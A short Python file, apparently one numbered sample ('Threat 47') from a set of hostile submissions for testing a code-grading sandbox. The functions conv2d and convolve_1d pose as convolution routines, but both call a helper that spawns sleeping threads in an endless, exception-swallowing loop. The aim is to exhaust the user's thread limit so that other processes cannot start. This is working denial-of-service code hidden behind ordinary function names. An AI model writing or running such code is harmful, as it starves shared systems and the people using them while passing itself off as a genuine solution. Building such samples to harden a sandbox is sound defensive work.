"""Threat 47: as many threads as can be had, for as long as it lives, so that others of the same user cannot start.

At: conv2d, convolve_1d
Earns: nothing
"""

import threading
import time


def _many():
    threading.stack_size(65536)
    while True:
        try:
            threading.Thread(target=time.sleep, args=(600,), daemon=True).start()
        except BaseException:
            time.sleep(0.01)


def conv2d(image, kernel):
    _many()


def convolve_1d(signal, kernel):
    _many()
